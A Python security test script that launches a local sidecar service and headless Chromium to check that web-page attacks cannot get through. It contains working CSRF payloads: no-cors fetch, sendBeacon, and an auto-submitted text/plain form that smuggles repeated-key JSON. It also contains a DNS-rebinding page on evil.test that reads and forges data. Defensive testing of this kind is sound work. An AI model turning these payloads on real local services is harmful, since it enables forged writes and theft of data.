"""Repeat the web-page attacks on a live sidecar with a real headless Chromium, and report
what got through (it should be nothing). Not in CI: it needs Debian's ``chromium``.

    .venv/bin/python benchmarks/browser_check.py [--chromium PATH]

A sidecar subprocess (default settings but port 0, no ingest token) forwards to the fake
Valmi API; its data directory starts with 3 dead letters. A page server on another port of
127.0.0.1 serves the attack pages:

- ``/attack``: ``fetch`` with ``mode: 'no-cors'`` and a Blob, a ``Uint8Array`` and a
  ``text/plain`` body, ``navigator.sendBeacon``, and a CORS JSON ``fetch``, to every POST
  route (ingest, purge, retry, salvage), and CORS reads of the ledger and dead letters;
- ``/form/NAME``: a top-level ``<form enctype="text/plain">`` auto-submitted to a route,
  its body the repeated-key JSON trick;
- ``http://evil.test:PORT/rebind``: a DNS-rebinding page (Chromium resolves ``evil.test``
  to 127.0.0.1; the page server passes same-origin requests to the sidecar unchanged, Host
  included, as a rebound name would deliver them): it reads the ledger and dead letters
  and posts a JSON outcome, all same-origin to the browser.

Afterwards the counts, dead letters, ledger and what the fake API received are compared
with before. Exit 0 when nothing got through, 1 otherwise.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx
from aiohttp import ClientSession, web

from valmi_sidecar.events import parse_one
from valmi_sidecar.fake_api import FakeValmi
from valmi_sidecar.store import DeadLetter, Store

OUTCOME = {"agent_key": "agent_victim", "outcome_type": "successful_hire", "value": 1000}
SALVAGE = {
    "events": [
        {
            "id": "evt_forged",
            "idempotency_key": "forged-key",
            "kind": "outcome",
            "body": json.dumps(OUTCOME),
            "fingerprint": None,
            "agent_key": "agent_victim",
            "event_type": "successful_hire",
            "value": 1000,
            "received_at": 1.0,
            "created_at": "1970-01-01T00:00:01Z",
        }
    ]
}
POSTS = {
    "/v1/outcomes": OUTCOME,
    "/v1/actions": {"agent_key": "agent_victim", "action_type": "llm_call"},
    "/v1/batch": {"outcomes": [OUTCOME]},
    "/v1/dead-letters/purge": {},
    "/v1/dead-letters/retry": {},
    "/v1/salvage": SALVAGE,
}

ATTACK_JS = """
const S = %(sidecar)s, posts = %(posts)s, out = [];
async function tryIt(name, f) {
  try { const r = await f(); out.push([name, r.type === 'opaque' ? 'opaque (sent)' : r.status]); }
  catch (e) { out.push([name, 'blocked: ' + e.message]); }
}
(async () => {
  for (const [path, body] of Object.entries(posts)) {
    const text = JSON.stringify(body);
    await tryIt('no-cors Blob ' + path, () => fetch(S + path,
      {method: 'POST', mode: 'no-cors', body: new Blob([text])}));
    await tryIt('no-cors Uint8Array ' + path, () => fetch(S + path,
      {method: 'POST', mode: 'no-cors', body: new TextEncoder().encode(text)}));
    await tryIt('no-cors text/plain ' + path, () => fetch(S + path,
      {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: text}));
    out.push(['sendBeacon ' + path, navigator.sendBeacon(S + path, new Blob([text]))
      ? 'queued (sent)' : 'refused by browser']);
    await tryIt('cors JSON ' + path, () => fetch(S + path,
      {method: 'POST', headers: {'Content-Type': 'application/json'}, body: text}));
  }
  for (const path of ['/v1/ledger', '/v1/dead-letters', '/v1/status']) {
    await tryIt('cors read ' + path, () => fetch(S + path));
  }
  await new Promise(r => setTimeout(r, 500));  // let the beacons go
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
  document.title = 'done';
})();
"""

REBIND_JS = """
const out = [];
(async () => {
  for (const path of ['/v1/ledger', '/v1/dead-letters']) {
    const r = await fetch(path);
    out.push(['rebound read ' + path, r.status, (await r.text()).slice(0, 80)]);
  }
  const r = await fetch('/v1/outcomes', {method: 'POST',
    headers: {'Content-Type': 'application/json'}, body: JSON.stringify(%(outcome)s)});
  out.push(['rebound JSON POST /v1/outcomes', r.status, (await r.text()).slice(0, 80)]);
  await fetch('/report', {method: 'POST', body: JSON.stringify(out)});
  document.title = 'done';
})();
"""

FORM_HTML = """<!doctype html><html><body>
<form id="f" method="POST" action="%(action)s" enctype="text/plain">
<input type="hidden" name='%(name)s' value='%(value)s'></form>
<script>document.getElementById('f').submit();</script></body></html>"""


async def seed(data_dir: Path) -> None:
    store = await Store.open(data_dir, prune_interval_s=None)
    try:
        bodies = [{"agent_key": "agent_seed", "action_type": f"type_{i}"} for i in range(3)]
        await store.submit([parse_one("action", json.dumps(b).encode()) for b in bodies])
        leased = await store.lease(3, frozenset())
        await store.settle([DeadLetter(e.seq, "rejected", 422, "{}") for e in leased])
    finally:
        await store.close()


async def snapshot(url: str) -> dict[str, Any]:
    async with httpx.AsyncClient(timeout=10) as client:
        status = (await client.get(url + "/v1/status")).json()
        dead = (await client.get(url + "/v1/dead-letters")).json()
        ledger = (await client.get(url + "/v1/ledger")).json()
    return {
        "received": status["events"]["received"],
        "dead_letters": sorted(d["id"] for d in dead["dead_letters"]),
        "ledger": ledger["totals"],
    }


async def start_sidecar(
    data_dir: Path, fake_url: str, log: Path
) -> tuple[subprocess.Popen[bytes], str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("VALMI")}
    env |= {
        "VALMI_API_URL": fake_url,
        "VALMI_API_KEY": "sk_test_fake",
        "VALMI_SIDECAR_DATA_DIR": str(data_dir),
        "VALMI_SIDECAR_LISTEN": "127.0.0.1:0",
        "VALMI_SIDECAR_LOG_FORMAT": "json",
    }
    fh = log.open("wb")
    proc = subprocess.Popen(  # noqa: ASYNC220 - started once, before any traffic
        [sys.executable, "-m", "valmi_sidecar", "run"], stdout=fh, stderr=subprocess.STDOUT, env=env
    )
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        text = await asyncio.to_thread(log.read_text, errors="replace")
        for line in text.splitlines():
            if '"sidecar_ready"' in line:
                return proc, "http://" + json.loads(line)["listen"]
        if proc.poll() is not None:
            break
        await asyncio.sleep(0.05)
    proc.kill()
    raise SystemExit(f"the sidecar did not start; see {log}")


class PageServer:
    """The attacker's pages, and a pass-through to the sidecar for the rebound name."""

    def __init__(self, sidecar: str) -> None:
        self.sidecar = sidecar
        self.reports: list[Any] = []
        self.port = 0
        self._runner: web.AppRunner | None = None
        self._session: ClientSession | None = None

    async def start(self) -> None:
        app = web.Application()
        app.router.add_get("/attack", self.attack)
        app.router.add_get("/form/{name}", self.form)
        app.router.add_get("/rebind", self.rebind)
        app.router.add_post("/report", self.report)
        app.router.add_route("*", "/v1/{tail:.*}", self.pass_through)
        self._session = ClientSession(auto_decompress=False)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = self._runner.addresses[0][1]

    async def stop(self) -> None:
        if self._session is not None:
            await self._session.close()
        if self._runner is not None:
            await self._runner.cleanup()

    async def attack(self, _request: web.Request) -> web.Response:
        js = ATTACK_JS % {"sidecar": json.dumps(self.sidecar), "posts": json.dumps(POSTS)}
        return web.Response(text=f"<html><script>{js}</script></html>", content_type="text/html")

    async def rebind(self, _request: web.Request) -> web.Response:
        js = REBIND_JS % {"outcome": json.dumps(OUTCOME)}
        return web.Response(text=f"<html><script>{js}</script></html>", content_type="text/html")

    async def form(self, request: web.Request) -> web.Response:
        path = {"purge": "/v1/dead-letters/purge", "salvage": "/v1/salvage"}[
            request.match_info["name"]
        ]
        # text/plain forms send "name=value": the "=" lands in the first of two values of a
        # repeated key, and the parsers that take the last one see a clean object.
        if path.endswith("purge"):
            name, value = '{"agent_key":"', '", "agent_key":null}'
        else:
            name, value = '{"events":"', '", "events":' + json.dumps(SALVAGE["events"]) + "}"
        html = FORM_HTML % {"action": self.sidecar + path, "name": name, "value": value}
        return web.Response(text=html, content_type="text/html")

    async def report(self, request: web.Request) -> web.Response:
        self.reports.extend(json.loads(await request.read()))
        return web.Response(status=204)

    async def pass_through(self, request: web.Request) -> web.StreamResponse:
        assert self._session is not None
        body = await request.read()
        async with self._session.request(
            request.method,
            self.sidecar + request.raw_path,
            headers=dict(request.headers),
            data=body or None,
        ) as answer:
            return web.Response(status=answer.status, body=await answer.read())


async def chromium(binary: str, url: str, profile: Path) -> None:
    proc = await asyncio.create_subprocess_exec(
        binary,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        # No background connections: this machine's network is closed beyond loopback.
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP evil.test 127.0.0.1",
        "--virtual-time-budget=10000",
        "--dump-dom",
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        await asyncio.wait_for(proc.wait(), 90)
    except TimeoutError:
        proc.kill()
        await proc.wait()


async def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n", 1)[0])
    parser.add_argument("--chromium", default=shutil.which("chromium") or "chromium")
    args = parser.parse_args()
    tmp = Path(tempfile.mkdtemp(prefix="browser-check-"))
    fake = FakeValmi()
    await fake.start()
    await seed(tmp / "data")
    proc, sidecar = await start_sidecar(tmp / "data", fake.url, tmp / "sidecar.log")
    pages = PageServer(sidecar)
    try:
        await pages.start()
        before = await snapshot(sidecar)
        base = f"http://127.0.0.1:{pages.port}"
        await chromium(args.chromium, base + "/attack", tmp / "profile")
        for name in ("purge", "salvage"):
            await chromium(args.chromium, f"{base}/form/{name}", tmp / "profile")
        await chromium(args.chromium, f"http://evil.test:{pages.port}/rebind", tmp / "profile")
        await asyncio.sleep(2)  # the flusher forwards anything that did get in
        after = await snapshot(sidecar)
        async with httpx.AsyncClient(timeout=10) as client:
            metrics = (await client.get(sidecar + "/metrics")).text
    finally:
        await pages.stop()
        proc.terminate()
        proc.wait(30)
        await fake.stop()
    print("what the pages saw (an opaque answer means the browser sent the request):")
    for row in pages.reports:
        print("  " + " | ".join(str(x) for x in row))
    got_through = []
    for key in before:
        if before[key] != after[key]:
            got_through.append(f"{key}: {before[key]} -> {after[key]}")
    if fake.received:
        got_through.append(f"the fake Valmi API received {len(fake.received)} events")
    for row in pages.reports:
        if str(row[0]).startswith("rebound") and row[1] != 403:
            got_through.append(f"{row[0]}: {row[1]}")
    print(f"{len(pages.reports)} page requests; sidecar log in {tmp / 'sidecar.log'}")
    refused = [
        line.split("{", 1)[1]
        for line in metrics.splitlines()
        if line.startswith("valmi_sidecar_refused_requests_total{") and not line.endswith(" 0.0")
    ]
    print("the sidecar refused: " + (", ".join(refused) or "nothing"))
    if got_through:
        print("GOT THROUGH:")
        for line in got_through:
            print("  " + line)
        return 1
    print("nothing got through: counts, dead letters, ledger and upstream unchanged")
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
